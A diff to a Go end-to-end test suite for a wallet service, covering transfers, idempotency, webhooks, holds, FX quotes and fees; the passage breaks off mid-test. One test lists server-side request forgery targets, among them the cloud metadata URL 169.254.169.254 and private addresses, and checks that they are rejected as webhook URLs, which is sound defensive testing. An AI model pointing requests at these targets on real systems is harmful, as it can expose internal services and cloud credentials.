@@ -3,24 +3,32 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"os"
+	"strings"
 	"testing"
 	"time"
 
 	"github.com/google/uuid"
-	"github.com/julienschmidt/httprouter"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/fangimal/ITK/internal/config"
 	"github.com/fangimal/ITK/internal/handlers"
+	"github.com/fangimal/ITK/internal/model"
 	"github.com/fangimal/ITK/internal/repository"
+	"github.com/fangimal/ITK/internal/webhook"
 )
 
+// testAdminToken — ADMIN_TOKEN тестового сервера
+const testAdminToken = "test-admin-token"
+
 func setupTestServer(t *testing.T) (*httptest.Server, func()) {
 	cfg := &config.Config{
 		DBHost:    "localhost",
@@ -29,27 +37,48 @@ func setupTestServer(t *testing.T) (*httptest.Server, func()) {
 		DBPass:    "secure_password_123",
 		DBName:    "wallet_db",
 		DBSSLMode: "disable",
-	}
 
-	repo, err := repository.NewPostgresWalletRepository(cfg)
-	require.NoError(t, err)
+		IdempotencyTTL: time.Hour,
+		HoldTTL:        time.Hour,
+		FXQuoteTTL:     time.Minute,
 
-	// Очистка — через публичный метод
-	ctx := context.Background()
-	err = repo.TruncateTables(ctx)
-	require.NoError(t, err)
+		WebhookPollInterval: 20 * time.Millisecond,
+		WebhookTimeout:      time.Second,
+		WebhookBackoff:      50 * time.Millisecond,
+		WebhookMaxAttempts:  3,
 
-	handler := handlers.NewWalletHandler(repo)
+		AdminToken: testAdminToken,
 
-	router := httprouter.New()
-	router.POST("/api/v1/wallets", handler.CreateWallet)
-	router.POST("/api/v1/wallet", handler.Operation)
-	router.GET("/api/v1/wallets/:uuid", handler.GetBalance)
+		// Подписчики в тестах — httptest-серверы на loopback
+		WebhookAllowedTargets: []string{"127.0.0.1"},
+	}
+
+	// По умолчанию — хранилище в памяти, БД не нужна.
+	// STORAGE=postgres гоняет те же тесты на живой БД (:5433).
+	var repo repository.WalletRepository
+	closeRepo := func() {}
+	if os.Getenv("STORAGE") == config.StoragePostgres {
+		require.NoError(t, migrateSchema(cfg))
+		pgRepo, err := repository.NewPostgresWalletRepository(cfg)
+		require.NoError(t, err)
 
-	ts := httptest.NewServer(router)
+		// Очистка — через публичный метод
+		err = pgRepo.TruncateTables(context.Background())
+		require.NoError(t, err)
+		repo, closeRepo = pgRepo, pgRepo.Close
+	} else {
+		repo = repository.NewMemoryWalletRepository(cfg)
+	}
+
+	dispatchCtx, stopDispatcher := context.WithCancel(context.Background())
+	go webhook.NewDispatcher(repo, cfg).Run(dispatchCtx)
+
+	// Те же маршруты, что у сервера
+	ts := httptest.NewServer(newHandler(handlers.NewWalletHandler(repo, cfg), cfg.AdminToken))
 	return ts, func() {
+		stopDispatcher()
 		ts.Close()
-		repo.Close()
+		closeRepo()
 	}
 }
 
@@ -118,10 +147,1356 @@ func TestE2E_WalletFlow(t *testing.T) {
 		err = json.NewDecoder(resp.Body).Decode(&errResp)
 		require.NoError(t, err)
 		assert.Equal(t, "insufficient funds", errResp.Error)
+
+		// 7. История: две успешные операции, новые первыми
+		resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions?limit=1", walletID), nil)
+		assert.Equal(t, http.StatusOK, resp.StatusCode)
+
+		var historyResp struct {
+			Items []struct {
+				OperationType string `json:"operationType"`
+				Amount        int64  `json:"amount"`
+			} `json:"items"`
+			NextCursor string `json:"nextCursor"`
+		}
+		err = json.NewDecoder(resp.Body).Decode(&historyResp)
+		require.NoError(t, err)
+		require.Len(t, historyResp.Items, 1)
+		assert.Equal(t, "WITHDRAW", historyResp.Items[0].OperationType)
+		assert.Equal(t, int64(400), historyResp.Items[0].Amount)
+		require.NotEmpty(t, historyResp.NextCursor)
+
+		resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions?limit=1&cursor=%s", walletID, historyResp.NextCursor), nil)
+		historyResp.NextCursor = ""
+		err = json.NewDecoder(resp.Body).Decode(&historyResp)
+		require.NoError(t, err)
+		require.Len(t, historyResp.Items, 1)
+		assert.Equal(t, "DEPOSIT", historyResp.Items[0].OperationType)
+		assert.Empty(t, historyResp.NextCursor)
+
+		// 8. История неизвестного кошелька → 404
+		resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions", uuid.New()), nil)
+		assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	})
+}
+
+func TestE2E_Transfer(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	from := mustCreateWallet(t, ts)
+	to := mustCreateWallet(t, ts)
+
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      from.String(),
+		"operationType": "DEPOSIT",
+		"amount":        500,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	transfer := map[string]interface{}{
+		"fromWalletId": from.String(),
+		"toWalletId":   to.String(),
+		"amount":       200,
+	}
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", transfer)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	var transferResp struct {
+		TransferID uuid.UUID `json:"transferId"`
+		Status     string    `json:"status"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&transferResp))
+	assert.NotEqual(t, uuid.Nil, transferResp.TransferID)
+	assert.Equal(t, "completed", transferResp.Status)
+
+	assert.Equal(t, int64(300), mustGetBalance(t, ts, from))
+	assert.Equal(t, int64(200), mustGetBalance(t, ts, to))
+
+	// Перевод больше остатка → 422, на себя → 400, в неизвестный кошелёк → 404
+	transfer["amount"] = 1000
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", transfer)
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+
+	transfer["amount"] = 1
+	transfer["toWalletId"] = from.String()
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", transfer)
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	transfer["toWalletId"] = uuid.New().String()
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", transfer)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	// Главная книга сходится
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/ledger/check", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var ledgerResp struct {
+		Balanced bool `json:"balanced"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&ledgerResp))
+	assert.True(t, ledgerResp.Balanced)
+
+	// Запись главной книги перевода — с проводками обоих кошельков
+	resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions?limit=1", to), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var history struct {
+		Items []struct {
+			EntryID *uuid.UUID `json:"entryId"`
+		} `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&history))
+	require.Len(t, history.Items, 1)
+	require.NotNil(t, history.Items[0].EntryID)
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/ledger/entries/"+history.Items[0].EntryID.String(), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var entry model.JournalEntry
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&entry))
+	assert.ElementsMatch(t, []model.Posting{
+		{Account: model.WalletAccount(from), Amount: -200},
+		{Account: model.WalletAccount(to), Amount: 200},
+	}, entry.Postings)
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/ledger/entries/"+uuid.NewString(), nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	// Балансы сходятся с журналом операций
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/reconcile?batchSize=1", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var reconcileResp struct {
+		DriftDetected bool `json:"driftDetected"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&reconcileResp))
+	assert.False(t, reconcileResp.DriftDetected)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/reconcile", map[string]interface{}{"fix": true})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+}
+
+func TestE2E_IdempotencyKey(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	op := map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "DEPOSIT",
+		"amount":        250,
+	}
+	headers := map[string]string{"Idempotency-Key": uuid.NewString()}
+
+	resp := doRequestWithHeaders(t, ts, "POST", "/api/v1/wallet", op, headers)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Empty(t, resp.Header.Get("Idempotent-Replayed"))
+
+	// Клиент повторил запрос после таймаута — ответ тот же, баланс не удвоился
+	resp = doRequestWithHeaders(t, ts, "POST", "/api/v1/wallet", op, headers)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Equal(t, "true", resp.Header.Get("Idempotent-Replayed"))
+	assert.Equal(t, int64(250), mustGetBalance(t, ts, walletID))
+
+	// Тот же ключ, другое тело
+	op["amount"] = 300
+	resp = doRequestWithHeaders(t, ts, "POST", "/api/v1/wallet", op, headers)
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+}
+
+func TestE2E_Webhooks(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	// Подписчик проверяет подпись и собирает события
+	received := make(chan []byte, 10)
+	const secret = "e2e-secret"
+	subscriber := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		if !webhook.Verify(secret, r.Header.Get(webhook.HeaderTimestamp), body, r.Header.Get(webhook.HeaderSignature)) {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		received <- body
+	}))
+	defer subscriber.Close()
+
+	resp := doRequest(t, ts, "POST", "/api/v1/webhooks/subscriptions", map[string]string{"url": "ftp://nope"})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/webhooks/subscriptions", map[string]string{"url": subscriber.URL, "secret": secret})
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	var sub struct {
+		ID     uuid.UUID `json:"id"`
+		Secret string    `json:"secret"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&sub))
+	assert.Equal(t, secret, sub.Secret)
+
+	walletID := mustCreateWallet(t, ts)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "DEPOSIT",
+		"amount":        900,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	select {
+	case body := <-received:
+		var event struct {
+			Type string `json:"type"`
+			Data struct {
+				WalletID uuid.UUID `json:"walletId"`
+				Balance  int64     `json:"balance"`
+			} `json:"data"`
+		}
+		require.NoError(t, json.Unmarshal(body, &event))
+		assert.Equal(t, "wallet.balance_changed", event.Type)
+		assert.Equal(t, walletID, event.Data.WalletID)
+		assert.Equal(t, int64(900), event.Data.Balance)
+	case <-time.After(5 * time.Second):
+		t.Fatal("webhook was not delivered")
+	}
+
+	require.Eventually(t, func() bool {
+		resp := doRequest(t, ts, "GET", "/api/v1/webhooks/deliveries?status=DELIVERED&subscriptionId="+sub.ID.String(), nil)
+		var list struct {
+			Items []json.RawMessage `json:"items"`
+		}
+		_ = json.NewDecoder(resp.Body).Decode(&list)
+		return len(list.Items) == 1
+	}, 5*time.Second, 20*time.Millisecond)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/webhooks/deliveries/"+uuid.NewString()+"/redeliver", nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	resp = doRequest(t, ts, "DELETE", "/api/v1/webhooks/subscriptions/"+sub.ID.String(), nil)
+	assert.Equal(t, http.StatusNoContent, resp.StatusCode)
+}
+
+func TestE2E_WebhookURLValidation(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	// В тестовом сервере разрешён только 127.0.0.1 — остальные внутренние адреса запрещены
+	for _, rawURL := range []string{
+		"/hook",
+		"ftp://93.184.215.14/hook",
+		"http://[::1]:8080/hook",
+		"http://0.0.0.0:8080/hook",
+		"http://169.254.169.254/latest/meta-data/",
+		"http://10.0.0.5/hook",
+		"http://192.168.0.10/hook",
+		"http://[fe80::1]/hook",
+	} {
+		resp := doRequest(t, ts, "POST", "/api/v1/webhooks/subscriptions", map[string]string{"url": rawURL})
+		assert.Equal(t, http.StatusBadRequest, resp.StatusCode, rawURL)
+		var body struct {
+			Error string `json:"error"`
+		}
+		require.NoError(t, json.NewDecoder(resp.Body).Decode(&body))
+		assert.Contains(t, body.Error, "webhook url", rawURL)
+	}
+
+	resp := doRequest(t, ts, "GET", "/api/v1/webhooks/subscriptions", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var list struct {
+		Items []json.RawMessage `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&list))
+	assert.Empty(t, list.Items)
+}
+
+func TestE2E_Holds(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "DEPOSIT",
+		"amount":        1000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/holds", map[string]interface{}{
+		"walletId": walletID.String(),
+		"amount":   600,
+	})
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	var hold model.Hold
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&hold))
+	assert.Equal(t, model.HoldActive, hold.Status)
+
+	// Баланс прежний, доступно — за вычетом холда
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+walletID.String(), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var balance model.WalletBalance
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, int64(1000), balance.Balance)
+	assert.Equal(t, int64(400), balance.Available)
+	assert.Equal(t, int64(600), balance.Held)
+
+	// Списать больше доступного нельзя
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "WITHDRAW",
+		"amount":        500,
+	})
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+
+	holdPath := "/api/v1/holds/" + hold.ID.String()
+	resp = doRequest(t, ts, "POST", holdPath+"/capture", map[string]interface{}{"amount": 700})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	// Частичное списание закрывает холд, остаток возвращается в доступный баланс
+	resp = doRequest(t, ts, "POST", holdPath+"/capture", map[string]interface{}{"amount": 250})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&hold))
+	assert.Equal(t, model.HoldCaptured, hold.Status)
+	assert.Equal(t, int64(250), hold.CapturedAmount)
+	assert.Equal(t, int64(750), mustGetBalance(t, ts, walletID))
+
+	resp = doRequest(t, ts, "POST", holdPath+"/void", nil)
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	resp = doRequest(t, ts, "GET", "/api/v1/holds/"+uuid.NewString(), nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	// Отмена холда без тела запроса
+	resp = doRequest(t, ts, "POST", "/api/v1/holds", map[string]interface{}{
+		"walletId": walletID.String(),
+		"amount":   750,
 	})
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&hold))
+	resp = doRequest(t, ts, "POST", "/api/v1/holds/"+hold.ID.String()+"/void", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&hold))
+	assert.Equal(t, model.HoldVoided, hold.Status)
+	assert.Equal(t, int64(750), mustGetBalance(t, ts, walletID))
+
+	// CAPTURE проведён через главную книгу
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/ledger/check", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var ledgerResp struct {
+		Balanced bool `json:"balanced"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&ledgerResp))
+	assert.True(t, ledgerResp.Balanced)
+}
+
+func TestE2E_WalletStatus(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	other := mustCreateWallet(t, ts)
+	admin := "/api/v1/admin/wallets/" + walletID.String()
+	op := map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "DEPOSIT",
+		"amount":        100,
+	}
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", op)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", admin+"/freeze", map[string]interface{}{})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/freeze", map[string]interface{}{"reason": "AML-7"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/freeze", map[string]interface{}{"reason": "AML-7"})
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+
+	// Замороженный: списание → 423, пополнение проходит
+	op["operationType"] = "WITHDRAW"
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", op)
+	assert.Equal(t, http.StatusLocked, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", map[string]interface{}{
+		"fromWalletId": walletID.String(),
+		"toWalletId":   other.String(),
+		"amount":       10,
+	})
+	assert.Equal(t, http.StatusLocked, resp.StatusCode)
+	op["operationType"] = "DEPOSIT"
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", op)
+	assert.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+walletID.String(), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var balance model.WalletBalance
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, model.WalletFrozen, balance.Status)
+
+	// Непустой кошелёк не закрыть; после разморозки и вывода средств — можно
+	resp = doRequest(t, ts, "POST", admin+"/close", map[string]interface{}{"reason": "по заявлению"})
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/unfreeze", map[string]interface{}{"reason": "проверка пройдена"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	op["operationType"] = "WITHDRAW"
+	op["amount"] = 200
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", op)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/close", map[string]interface{}{"reason": "по заявлению"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	// Закрытый: любая операция → 410
+	op["operationType"] = "DEPOSIT"
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", op)
+	assert.Equal(t, http.StatusGone, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/holds", map[string]interface{}{"walletId": walletID.String(), "amount": 1})
+	assert.Equal(t, http.StatusGone, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", admin+"/status-history", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var historyResp struct {
+		Items []model.WalletStatusChange `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&historyResp))
+	require.Len(t, historyResp.Items, 3)
+	assert.Equal(t, "AML-7", historyResp.Items[0].Reason)
+	assert.Equal(t, model.WalletClosed, historyResp.Items[2].ToStatus)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/wallets/"+uuid.NewString()+"/status-history", nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+}
+
+func TestE2E_Currencies(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	resp := doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"currency": "XXX"})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"currency": "USD"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var createResp struct {
+		WalletID uuid.UUID      `json:"walletId"`
+		Currency model.Currency `json:"currency"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&createResp))
+	assert.Equal(t, model.Currency("USD"), createResp.Currency)
+	usd := createResp.WalletID
+
+	// Сумма в долларах переводится в центы
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      usd.String(),
+		"operationType": "DEPOSIT",
+		"currency":      "USD",
+		"value":         "10.50",
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var result model.OperationResult
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&result))
+	assert.Equal(t, int64(1050), result.Amount)
+	assert.Equal(t, model.Currency("USD"), result.Currency)
+
+	// Третий знак после точки у доллара недопустим
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      usd.String(),
+		"operationType": "DEPOSIT",
+		"currency":      "USD",
+		"value":         "1.005",
+	})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	// Валюта операции не совпадает с валютой кошелька
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      usd.String(),
+		"operationType": "WITHDRAW",
+		"currency":      "KZT",
+		"amount":        100,
+	})
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+usd.String(), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var balance model.WalletBalance
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, int64(1050), balance.Balance)
+	assert.Equal(t, model.Currency("USD"), balance.Currency)
+
+	// Кошелёк без указания валюты — рублёвый; перевод RUB → USD отклоняется
+	rub := mustCreateWallet(t, ts)
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", map[string]interface{}{
+		"fromWalletId": usd.String(),
+		"toWalletId":   rub.String(),
+		"amount":       100,
+	})
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+}
+
+func TestE2E_FX(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	// Курсы — импортом CSV и поштучно
+	importRates := func(csv string) *http.Response {
+		req, err := http.NewRequest("POST", ts.URL+"/api/v1/admin/fx/rates/import", strings.NewReader(csv))
+		require.NoError(t, err)
+		req.Header.Set("Content-Type", "text/csv")
+		req.Header.Set("Authorization", "Bearer "+testAdminToken)
+		resp, err := http.DefaultClient.Do(req)
+		require.NoError(t, err)
+		return resp
+	}
+	resp := importRates("base,quote,rate\nRUB,USD,0.0105\nUSD,RUB,92.5\n")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = importRates("base,quote,rate\nRUB,USD,abc\n")
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/fx/rates", map[string]interface{}{"base": "RUB", "quote": "KZT", "rate": "-1"})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/fx/rates", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var ratesResp struct {
+		Items []model.FXRate `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&ratesResp))
+	assert.Len(t, ratesResp.Items, 2)
+
+	rub := mustCreateWallet(t, ts)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId":      rub.String(),
+		"operationType": "DEPOSIT",
+		"amount":        100000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"currency": "USD"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var createResp struct {
+		WalletID uuid.UUID `json:"walletId"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&createResp))
+	usd := createResp.WalletID
+
+	// 123.45 RUB × 0.0105 = 1.296225 USD → 129 центов (DOWN)
+	resp = doRequest(t, ts, "POST", "/api/v1/fx/quotes", map[string]interface{}{
+		"fromWalletId": rub.String(),
+		"toWalletId":   usd.String(),
+		"amount":       12345,
+	})
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	var quote model.FXQuote
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&quote))
+	assert.Equal(t, model.QuoteOpen, quote.Status)
+	assert.Equal(t, int64(129), quote.TargetAmount)
+	assert.Equal(t, model.RoundDown, quote.Rounding)
+
+	// Котировка между рублёвыми кошельками не нужна — это перевод
+	resp = doRequest(t, ts, "POST", "/api/v1/fx/quotes", map[string]interface{}{
+		"fromWalletId": rub.String(),
+		"toWalletId":   mustCreateWallet(t, ts).String(),
+		"amount":       100,
+	})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	quotePath := "/api/v1/fx/quotes/" + quote.ID.String()
+	resp = doRequest(t, ts, "POST", quotePath+"/execute", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&quote))
+	assert.Equal(t, model.QuoteExecuted, quote.Status)
+	assert.NotNil(t, quote.ExecutedAt)
+
+	assert.Equal(t, int64(100000-12345), mustGetBalance(t, ts, rub))
+	assert.Equal(t, int64(129), mustGetBalance(t, ts, usd))
+
+	// Повторное исполнение → 409
+	resp = doRequest(t, ts, "POST", quotePath+"/execute", nil)
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	resp = doRequest(t, ts, "GET", "/api/v1/fx/quotes/"+uuid.NewString(), nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	// Курс записан в журнал операций
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+usd.String()+"/transactions", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var historyResp struct {
+		Items []struct {
+			OperationType string     `json:"operationType"`
+			Amount        int64      `json:"amount"`
+			QuoteID       *uuid.UUID `json:"quoteId"`
+			FXRate        string     `json:"fxRate"`
+		} `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&historyResp))
+	require.Len(t, historyResp.Items, 1)
+	assert.Equal(t, string(model.OperationFXIn), historyResp.Items[0].OperationType)
+	assert.Equal(t, int64(129), historyResp.Items[0].Amount)
+	assert.Equal(t, &quote.ID, historyResp.Items[0].QuoteID)
+	assert.Equal(t, "0.0105", historyResp.Items[0].FXRate)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/ledger/check", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var ledgerResp struct {
+		Balanced bool `json:"balanced"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&ledgerResp))
+	assert.True(t, ledgerResp.Balanced)
+}
+
+func TestE2E_Fees(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	resp := doRequest(t, ts, "POST", "/api/v1/admin/fees/rules", map[string]interface{}{
+		"operation": "WITHDRAW", "kind": "PERCENT", "percent": "1", "minFee": 50,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var rule model.FeeRule
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&rule))
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/fees/rules", map[string]interface{}{
+		"operation": "TRANSFER", "walletType": "BUSINESS", "kind": "FIXED", "fixed": 30,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/fees/rules", map[string]interface{}{
+		"operation": "DEPOSIT", "kind": "FIXED", "fixed": 30,
+	})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"walletType": "BUSINESS"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var createResp struct {
+		WalletID   uuid.UUID        `json:"walletId"`
+		WalletType model.WalletType `json:"walletType"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&createResp))
+	assert.Equal(t, model.WalletBusiness, createResp.WalletType)
+	business := createResp.WalletID
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": business.String(), "operationType": "DEPOSIT", "amount": 10000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	// Комиссия возвращается в ответе и списывается сверх суммы
